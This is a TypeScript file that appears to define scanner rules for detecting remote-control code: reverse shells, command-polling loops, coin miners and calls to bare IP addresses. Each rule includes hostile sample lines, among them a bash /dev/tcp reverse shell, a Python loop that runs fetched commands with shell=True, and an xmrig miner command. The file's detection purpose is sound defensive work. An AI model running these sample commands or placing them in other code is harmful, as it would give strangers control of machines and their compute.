import { remoteControl } from "../../detectors/remote-control.ts";
import { defineRules } from "../../engine/define-rule.ts";
import { python } from "../../engine/rule-example.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const remoteControlRules = defineRules({
  family: "remote-control",
  run: ignoreSamples(remoteControl),
  rules: [
    {
      id: "remote-control.reverse-shell",
      alias: "R06.reverse_shell",
      severity: "block",
      says: "It hands a shell of this machine to somebody on the network.",
      falsePositive: "A lesson about attacks; keep it on a page that says so.",
      bad: ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
      good: ["bash -c 'echo done'"],
    },
    {
      id: "remote-control.takes-orders",
      alias: "R06.takes_orders",
      severity: "block",
      says: "It asks a server again and again for commands and runs them.",
      falsePositive: "A worker of a job queue; name its server on a page.",
      bad: [
        python(
          "import subprocess, time, requests\nwhile True:\n    order = requests.get('https://unknown.example/next').text\n    subprocess.run(order, shell=True)\n    time.sleep(5)",
        ),
      ],
      good: [
        python(
          "import time, requests\nwhile True:\n    print(requests.get('https://unknown.example/next').text)\n    time.sleep(5)",
        ),
      ],
    },
    {
      id: "remote-control.miner",
      alias: "R06.miner",
      severity: "block",
      says: "It mines coins on the machine that runs it.",
      falsePositive: "A page about mining that shows the command.",
      bad: ["./xmrig -o stratum+tcp://pool.unknown.example:3333 -u wallet"],
      good: ["./render -o out.png"],
    },
    {
      id: "remote-control.bare-address",
      alias: "R06.bare_address",
      severity: "review",
      says: "It talks to a bare number address instead of a named host.",
      falsePositive: "A device in the user's own network; ask for its address.",
      bad: ["curl http://203.0.113.7/x"],
      good: ["curl http://127.0.0.1:8080/x"],
    },
  ],
});
